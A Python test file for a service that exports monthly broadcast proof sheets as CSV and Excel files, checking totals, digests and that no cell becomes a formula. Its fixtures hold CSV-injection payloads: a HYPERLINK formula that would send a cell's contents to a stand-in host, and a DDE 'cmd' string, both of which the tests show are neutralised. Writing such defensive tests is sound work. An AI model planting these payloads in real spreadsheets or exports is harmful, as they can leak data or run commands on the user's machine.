"""Proof sheets as values and as files: figures that add up, digests that do not depend on the form, and no formulas."""

from __future__ import annotations

import csv
import io
import zipfile
from dataclasses import replace
from datetime import UTC, date, datetime

import pytest

from services.control.catalogue.texts import Language, text
from services.control.proof_sheet_files import as_csv, as_xlsx, neutral
from services.control.proof_sheets import (
    BroadcastRow,
    DayRow,
    DeviceRow,
    Figures,
    Month,
    ProblemRow,
    ReasonRow,
    Sheet,
    Uptake,
)
from tests.support.planning import number, unit_id

MADE_AT = datetime(2026, 11, 1, 2, tzinfo=UTC)
FIGURES = Figures(
    planned=10,
    planned_ms=600_000,
    played=4,
    played_ms=240_000,
    late=1,
    late_ms=50_000,
    late_by_ms=10_000,
    cut=1,
    cut_ms=30_000,
    missed=1,
    missed_ms=60_000,
    unknown=1,
    unknown_ms=60_000,
    by_gateway=2,
    by_gateway_ms=120_000,
)
EVIL = '=HYPERLINK("http://evil.test?x="&A1,"bấm")'
SHEET = Sheet(
    unit_id=unit_id(11),
    code="07201",
    name="Phường Thọ Xương",
    path=("Tỉnh Bắc Giang", "Thành phố Bắc Giang"),
    month=Month(year=2026, month=10),
    time_zone="Asia/Ho_Chi_Minh",
    days_held=(date(2026, 10, 1), date(2026, 11, 1)),
    days=(DayRow(day=date(2026, 10, 1), figures=FIGURES),),
    broadcasts=(
        BroadcastRow(
            broadcast_id=number(2, 1),
            title=EVIL,
            issuer_id=unit_id(1),
            issuer="Tỉnh",
            level="emergency",
            figures=FIGURES,
        ),
    ),
    devices=(
        DeviceRow(
            device_id="loa-1",
            name="@SUM(1+1)*cmd|' /C calc'!A0",
            kind="cluster",
            unit="-Phường",
            latitude=21.273_149_999_999_998,
            longitude=106.194_6,
            figures=FIGURES,
        ),
    ),
    reasons=(ReasonRow(outcome="missed", reason="offline", evidence=None, emissions=3, devices=2),),
    problems=(
        ProblemRow(
            broadcast_id=number(2, 2),
            title="+1",
            kind="quiet_hours",
            times=3,
            first=date(2026, 10, 1),
            last=date(2026, 10, 3),
        ),
    ),
    uptake=Uptake(offered=5, accepted=2, declined=1),
    bulletins=3,
    own_units=frozenset({unit_id(11)}),
)


def words(key: str) -> str:
    return text(key, Language.VIETNAMESE)


def test_what_sounded_is_what_devices_proved() -> None:
    assert FIGURES.sounded_ms == 320_000
    assert FIGURES.share == pytest.approx(320 / 600)
    assert Figures().share is None
    parts = ("played", "late", "cut", "missed", "refused", "unknown", "by_gateway", "open")
    assert sum(getattr(FIGURES, name) for name in parts) == FIGURES.planned
    assert SHEET.uptake.undecided == 2
    assert SHEET.from_above == SHEET.emergencies == SHEET.total == FIGURES


def test_a_month_is_its_days() -> None:
    assert (Month(year=2026, month=12).first, Month(year=2026, month=12).end) == (date(2026, 12, 1), date(2027, 1, 1))
    assert str(Month(year=2026, month=1)) == "2026-01"


def test_a_digest_is_of_the_figures() -> None:
    assert SHEET.digest == replace(SHEET).digest
    changed = DayRow(day=date(2026, 10, 1), figures=replace(FIGURES, played=5))
    assert replace(SHEET, days=(changed,)).digest != SHEET.digest
    assert replace(SHEET, name="Phường khác").digest != SHEET.digest
    assert len(SHEET.digest) == 64


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t=", "\r=", "\n="])
def test_no_cell_of_a_csv_is_a_formula(start: str) -> None:
    assert neutral(f"{start}1+1") == f"'{start}1+1"
    assert neutral("1+1") == "1+1"
    assert neutral(-1) == -1
    assert neutral(None) is None


def test_a_csv_says_everything_and_nothing_is_calculated() -> None:
    content = as_csv(SHEET, made_at=MADE_AT, words=words)
    assert content.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
    assert {row[0] for row in rows} == {"part", "sheet", "total", "day", "broadcast", "device", "reason", "problem"}
    assert all(len(row) <= len(rows[0]) for row in rows)
    assert ["sheet", "sha256", SHEET.digest, ""] in rows
    total = dict(zip(rows[0], next(row for row in rows if row[0] == "total"), strict=True))
    assert (total["planned"], total["by_gateway"], total["sounded_ms"], total["share"]) == (
        "10",
        "2",
        "320000",
        "0.5333",
    )
    assert f"'{EVIL}" in next(row for row in rows if row[0] == "broadcast")
    assert not [cell for row in rows for cell in row if cell[:1] in {"=", "+", "-", "@"}]
    reason = next(row for row in rows if row[0] == "reason")
    assert reason[1:] == ["missed.offline", "Không phát: Thiết bị mất kết nối", "", "3"]
    problem = next(row for row in rows if row[0] == "problem")
    assert problem[2:] == ["'+1", "Trong giờ yên tĩnh", "3"]


def test_a_workbook_has_a_page_for_each_question_and_no_formula() -> None:
    content = as_xlsx(SHEET, made_at=MADE_AT, words=words)
    with zipfile.ZipFile(io.BytesIO(content)) as book:
        pages = [book.read(name).decode() for name in book.namelist() if name.startswith("xl/worksheets/sheet")]
        strings = book.read("xl/sharedStrings.xml").decode()
        workbook = book.read("xl/workbook.xml").decode()
    assert len(pages) == 6
    assert "Theo thiết bị" in workbook
    assert not any("<f>" in page or "<hyperlink" in page for page in pages)
    assert "=HYPERLINK" in strings
    assert SHEET.digest in strings
    assert "<v>320000</v>" not in "".join(pages)  # minutes, for people
    assert "<v>5.33</v>" in pages[1]


def test_names_of_any_length_make_a_workbook() -> None:
    long = replace(SHEET, name="X" * 500, broadcasts=(replace(SHEET.broadcasts[0], title="Y" * 40_000),))
    assert as_xlsx(long, made_at=MADE_AT, words=words)[:2] == b"PK"


def test_an_empty_month_is_a_sheet_too() -> None:
    empty = replace(SHEET, days=(), broadcasts=(), devices=(), problems=())
    assert empty.total == Figures()
    assert as_csv(empty, made_at=MADE_AT, words=words)
    assert as_xlsx(empty, made_at=MADE_AT, words=words)


def test_coordinates_are_printed_to_a_metre() -> None:
    (row,) = SHEET.devices
    assert row.place == (21.27315, 106.1946)
    assert replace(row, latitude=None, longitude=None).place == (None, None)
    with zipfile.ZipFile(io.BytesIO(as_xlsx(SHEET, made_at=MADE_AT, words=words))) as book:
        pages = "".join(book.read(name).decode() for name in book.namelist() if "sheets/sheet" in name)
    assert "<v>21.27315</v>" in pages
